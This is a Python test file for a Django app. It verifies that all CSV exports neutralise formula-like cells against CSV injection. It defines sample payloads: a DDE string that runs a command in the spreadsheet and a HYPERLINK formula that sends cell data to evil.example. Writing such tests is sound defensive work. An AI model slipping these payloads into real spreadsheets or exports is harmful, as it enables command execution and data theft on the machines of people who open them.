"""Every CSV export neutralises formula-like cells through core.csv_safe (OWASP CSV injection)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from core import tables
from interviews.sheets import write_csv
from labelling import services
from labelling.exports import round_export_csv
from taxonomy import exports as taxonomy_exports
from tests.factories import LeafFactory, NodeFactory, team_round

ROOT = Path(__file__).resolve().parents[2]
EVIL = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(text: str, *values: str) -> None:
    found = cells(text)
    for value in values:
        assert "'" + value in found, value
        assert value not in found, value


def test_every_csv_writer_in_the_code_is_the_neutralising_one():
    """One place: csv.writer / csv.DictWriter appear only in core/csv_safe.py and PostgreSQL's COPY input."""
    allowed = {"core/csv_safe.py", "collection/importers/artefacts.py"}
    pattern = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = set()
    skipped = {".venv", ".git", "tests", "bench", "var", "staticfiles", "node_modules"}
    for top in ROOT.iterdir():
        if not top.is_dir() or top.name in skipped:
            continue
        for path in top.rglob("*.py"):
            if pattern.search(path.read_text(encoding="utf-8")):
                found.add(path.relative_to(ROOT).as_posix())
    assert found == allowed
    copy_input = (ROOT / "collection/importers/artefacts.py").read_text()
    assert copy_input.count("csv.writer(") == 1 and "COPY" in copy_input


@pytest.mark.django_db
def test_round_csv_export_neutralises_labels(team, client):
    rnd = team_round(team, n=1)
    first, second = rnd.items.get().assignments.order_by("order")
    services.annotation_submit(assignment_id=first.id, user=first.evaluator, label=EVIL)
    services.annotation_submit(assignment_id=second.id, user=second.evaluator, label="@SUM(1+1)*cmd")
    assert_neutralised(round_export_csv(rnd).decode(), EVIL, "@SUM(1+1)*cmd")


@pytest.mark.django_db
def test_taxonomy_csv_export_neutralises_names(project):
    node = NodeFactory(project=project, name=LINK)
    LeafFactory(node=node, label__name="+1+cmd")
    text = taxonomy_exports.export(project, "csv")
    found = cells(text)
    assert any(cell.startswith("'" + LINK) for cell in found)
    assert any(cell.endswith("+1+cmd") for cell in found)
    assert not any(cell.startswith(("=", "+")) for cell in found)


def test_interview_coding_sheet_csv_neutralises_tags_and_keeps_its_dashes():
    text = write_csv([[1, EVIL, "-", "-", "-2+3", ""]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["1", "'" + EVIL, "-", "-", "'-2+3", ""]


def test_table_csv_behind_table1_and_table2_neutralises_cells():
    text = tables.render_csv(["Category", "N"], [[LINK, 3], ["-0.5", -1]])
    assert cells(text) == ["Category", "N", "'" + LINK, "3", "-0.5", "-1"]


@pytest.mark.django_db
def test_round_csv_export_page_is_neutralised_and_reads_back_as_typed(team, client):
    rnd = team_round(team, n=1)
    first, second = rnd.items.get().assignments.order_by("order")
    for assignment in (first, second):
        services.annotation_submit(assignment_id=assignment.id, user=assignment.evaluator, label=EVIL)
    client.force_login(team.lead)
    response = client.get(reverse("labelling:export_round", args=[team.project.slug, rnd.number]), {"format": "csv"})
    assert response.status_code == 200
    assert_neutralised(response.content.decode(), EVIL)
